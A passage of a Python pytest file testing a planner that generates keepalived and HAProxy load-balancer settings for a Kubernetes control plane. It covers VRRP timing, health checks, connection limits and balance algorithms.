    ({"auth": "pass", "auth_password": "x", "timing": "kubeadm"}, "2.1.5", (2, 1, None)),
    ({"auth": "hmac", "auth_password": "x" * 40}, "2.4.2", (3, 0.1, 10)),
])
def test_timing_is_what_all_members_can_do(more: dict[str, t.Any], version: str, expected: tuple[t.Any, ...]) -> None:
    known = hosts()
    for said in known.values():
        said["keepalived_version"] = "2.4.3"
    known["cp2"]["keepalived_version"] = version
    instance = first(intent(**more), known)["instances"][0]
    assert (instance["vrrp_version"], instance["advert_interval"], instance["down_timer_adverts"]) == expected


def test_only_the_sub_second_profile_is_slowed_down_by_a_password() -> None:
    for timing, slow in (("balanced", True), ("safe", True), ("kubeadm", False), ({"advert_interval": 1}, False)):
        assert ("auth_pass_slow" in warned(intent(auth="pass", auth_password="x", timing=timing))) is slow


def test_fractions_of_seconds_for_scripts_need_a_new_keepalived() -> None:
    known = {name: {**said, "keepalived_version": "2.3.2"} for name, said in hosts().items()}
    checks = first(intent(timing={"check_interval": 0.5, "check_fall": 12}), known)["checks"]
    assert (checks[1]["interval"], checks[1]["fall"]) == (0.5, 12)


@pytest.mark.parametrize(("kind", "check"), [
    ("https", {"kind": "https", "path": "/readyz", "accept": [200, 401]}),
    ("https_strict", {"kind": "https", "path": "/readyz", "accept": [200]}),
    ("tcp", {"kind": "tcp", "path": None, "accept": []}),
])
def test_what_haproxy_asks(kind: str, check: dict[str, t.Any]) -> None:
    assert first(intent(health_check=kind))["haproxy"]["check"] == check


def test_a_delay_of_zero_needs_no_weight() -> None:
    assert first(intent(failback_delay=0))["settle_weight"] == 0


def test_a_lone_balancer_has_no_peers() -> None:
    endpoint = first(intent(lb_hosts=["cp1"]))
    assert endpoint["instances"][0]["members"][0]["peers"] == []
    assert warned(intent(lb_hosts=["cp1"])) == ["balancer_alone"]


def test_balancers_default_to_the_hosts_of_the_api_servers() -> None:
    wanted = intent()
    del wanted["lb_hosts"]
    assert plan(wanted) == plan()


@pytest.mark.parametrize("given, maxconn, source", [
    ({}, 8192, 4096),
    ({"nodes": 500}, 8192, 4096),
    ({"nodes": 2000}, 32000, 16000),
    ({"nodes": 2000, "haproxy_maxconn": 1000}, 1000, 500),
    ({"haproxy_maxconn_per_source": 100}, 8192, 100),
])
def test_connections_are_as_many_as_the_nodes_need(given: dict[str, int], maxconn: int, source: int) -> None:
    found = plan(intent(**given))["endpoints"][0]["haproxy"]
    assert (found["maxconn"], found["maxconn_per_source"]) == (maxconn, source)


def test_what_a_variable_says_goes_into_haproxy_cfg() -> None:
    for given, word in (({}, "leastconn"), ({"haproxy_balance": "source"}, "source")):
        assert "balance " + word in configs.haproxy(plan(intent(**given)))["listen kube-apiserver"]
